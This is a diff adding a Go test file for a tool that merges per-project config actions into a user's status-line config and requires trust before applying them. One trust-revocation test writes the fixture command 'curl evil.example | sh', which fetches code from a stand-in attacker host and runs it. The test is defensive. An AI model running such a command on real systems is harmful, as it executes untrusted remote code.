@@ -0,0 +1,207 @@
+package main
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"reflect"
+	"testing"
+)
+
+func TestFindProjectConfig(t *testing.T) {
+	root := t.TempDir()
+	repo := filepath.Join(root, "repo")
+	sub := filepath.Join(repo, "src", "pkg")
+	other := filepath.Join(root, "other")
+	for _, dir := range []string{sub, other} {
+		if err := os.MkdirAll(dir, 0755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	projectConfig := filepath.Join(repo, projectConfigName)
+	if err := os.WriteFile(projectConfig, []byte("actions: []\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	tests := []struct {
+		name     string
+		input    map[string]interface{}
+		expected string
+	}{
+		{name: "cwd", input: map[string]interface{}{"cwd": repo}, expected: projectConfig},
+		{name: "subdirectory", input: map[string]interface{}{"cwd": sub}, expected: projectConfig},
+		{
+			name: "project_dir",
+			input: map[string]interface{}{
+				"cwd":       other,
+				"workspace": map[string]interface{}{"project_dir": sub},
+			},
+			expected: projectConfig,
+		},
+		{name: "none", input: map[string]interface{}{"cwd": other}, expected: ""},
+		{name: "no cwd", input: map[string]interface{}{}, expected: ""},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := findProjectConfig(tt.input); got != tt.expected {
+				t.Errorf("findProjectConfig() = %q, want %q", got, tt.expected)
+			}
+		})
+	}
+}
+
+func TestMergeProjectConfig(t *testing.T) {
+	base := &Config{
+		Lines: []Line{
+			{Actions: []Action{
+				{Name: "model", Command: "echo model", Color: "cyan"},
+				{Name: "git", Command: "git branch --show-current"},
+			}},
+			{Actions: []Action{
+				{Name: "cost", Command: "echo cost"},
+			}},
+		},
+	}
+
+	tests := []struct {
+		name     string
+		project  string
+		expected [][]Action
+		wantErr  bool
+	}{
+		{
+			name:    "merge by default",
+			project: "actions:\n  - name: model\n    color: red\n",
+			expected: [][]Action{
+				{{Name: "model", Command: "echo model", Color: "red"}, {Name: "git", Command: "git branch --show-current"}},
+				{{Name: "cost", Command: "echo cost"}},
+			},
+		},
+		{
+			name:    "append by default",
+			project: "actions:\n  - name: kube\n    command: kubectl config current-context\n",
+			expected: [][]Action{
+				{{Name: "model", Command: "echo model", Color: "cyan"}, {Name: "git", Command: "git branch --show-current"}},
+				{{Name: "cost", Command: "echo cost"}, {Name: "kube", Command: "kubectl config current-context"}},
+			},
+		},
+		{
+			name:    "append to line",
+			project: "actions:\n  - name: kube\n    mode: append\n    line: 1\n    command: kubectl config current-context\n",
+			expected: [][]Action{
+				{{Name: "model", Command: "echo model", Color: "cyan"}, {Name: "git", Command: "git branch --show-current"}, {Name: "kube", Command: "kubectl config current-context"}},
+				{{Name: "cost", Command: "echo cost"}},
+			},
+		},
+		{
+			name:    "replace",
+			project: "actions:\n  - name: model\n    mode: replace\n    command: echo other\n",
+			expected: [][]Action{
+				{{Name: "model", Command: "echo other"}, {Name: "git", Command: "git branch --show-current"}},
+				{{Name: "cost", Command: "echo cost"}},
+			},
+		},
+		{
+			name:    "disable drops emptied line",
+			project: "actions:\n  - name: cost\n    mode: disable\n",
+			expected: [][]Action{
+				{{Name: "model", Command: "echo model", Color: "cyan"}, {Name: "git", Command: "git branch --show-current"}},
+			},
+		},
+		{name: "append existing", project: "actions:\n  - name: git\n    mode: append\n    command: echo\n", wantErr: true},
+		{name: "replace missing", project: "actions:\n  - name: kube\n    mode: replace\n    command: echo\n", wantErr: true},
+		{name: "disable missing", project: "actions:\n  - name: kube\n    mode: disable\n", wantErr: true},
+		{name: "missing line", project: "actions:\n  - name: kube\n    line: 3\n    command: echo\n", wantErr: true},
+		{name: "line with existing action", project: "actions:\n  - name: git\n    line: 1\n    color: red\n", wantErr: true},
+		{name: "line with merge", project: "actions:\n  - name: git\n    mode: merge\n    line: 1\n", wantErr: true},
+		{name: "unknown mode", project: "actions:\n  - name: git\n    mode: remove\n", wantErr: true},
+		{name: "unknown key", project: "actions:\n  - name: git\n    colour: red\n", wantErr: true},
+		{name: "unknown top-level key", project: "lines: []\n", wantErr: true},
+		{name: "no name", project: "actions:\n  - command: echo\n", wantErr: true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			overlay, err := parseProjectConfig([]byte(tt.project))
+			var merged *Config
+			if err == nil {
+				merged, err = mergeProjectConfig(base, overlay)
+			}
+			if (err != nil) != tt.wantErr {
+				t.Fatalf("error = %v, wantErr %v", err, tt.wantErr)
+			}
+			if tt.wantErr {
+				return
+			}
+
+			var got [][]Action
+			for _, line := range merged.Lines {
+				got = append(got, line.Actions)
+			}
+			if !reflect.DeepEqual(got, tt.expected) {
+				t.Errorf("merged lines = %+v, want %+v", got, tt.expected)
+			}
+			if base.Lines[0].Actions[0].Color != "cyan" || len(base.Lines) != 2 || len(base.Lines[0].Actions) != 2 {
+				t.Errorf("user config was modified: %+v", base.Lines)
+			}
+		})
+	}
+}
+
+func TestApplyProjectConfig(t *testing.T) {
+	repo := t.TempDir()
+	trustFile := filepath.Join(t.TempDir(), "trusted")
+	projectConfig := filepath.Join(repo, projectConfigName)
+	if err := os.WriteFile(projectConfig, []byte("actions:\n  - name: kube\n    command: echo ctx\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	config := &Config{Actions: []Action{{Name: "model", Command: "echo model"}}}
+	input := map[string]interface{}{"cwd": repo}
+
+	// Untrusted configs are ignored
+	got, path, err := applyProjectConfig(config, input, trustFile)
+	if !errors.Is(err, errUntrusted) {
+		t.Fatalf("applyProjectConfig() error = %v, want %v", err, errUntrusted)
+	}
+	if got != config || path != projectConfig {
+		t.Errorf("applyProjectConfig() = %+v, %q, want the user config and %q", got, path, projectConfig)
+	}
+
+	// Trusted configs are merged
+	data, err := os.ReadFile(projectConfig)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := trustProjectConfig(trustFile, projectConfig, data); err != nil {
+		t.Fatalf("trustProjectConfig() error = %v", err)
+	}
+	got, _, err = applyProjectConfig(config, input, trustFile)
+	if err != nil {
+		t.Fatalf("applyProjectConfig() error = %v", err)
+	}
+	expected := []Action{{Name: "model", Command: "echo model"}, {Name: "kube", Command: "echo ctx"}}
+	if !reflect.DeepEqual(got.Actions, expected) {
+		t.Errorf("actions = %+v, want %+v", got.Actions, expected)
+	}
+
+	// Changing the config withdraws the trust
+	if err := os.WriteFile(projectConfig, []byte("actions:\n  - name: kube\n    command: curl evil.example | sh\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if got, _, err = applyProjectConfig(config, input, trustFile); !errors.Is(err, errUntrusted) || got != config {
+		t.Errorf("applyProjectConfig() after change = %+v, %v, want the user config and %v", got, err, errUntrusted)
+	}
+
+	// A trusted config that breaks the merged config is ignored too
+	broken := []byte("actions:\n  - name: kube\n    command: echo\n    depends_on: [nope]\n")
+	if err := os.WriteFile(projectConfig, broken, 0644); err != nil {
+		t.Fatal(err)
+	}
+	if err := trustProjectConfig(trustFile, projectConfig, broken); err != nil {
+		t.Fatal(err)
+	}
+	if got, _, err = applyProjectConfig(config, input, trustFile); err == nil || got != config {
+		t.Errorf("applyProjectConfig() with broken config = %+v, %v, want the user config and an error", got, err)
+	}
+}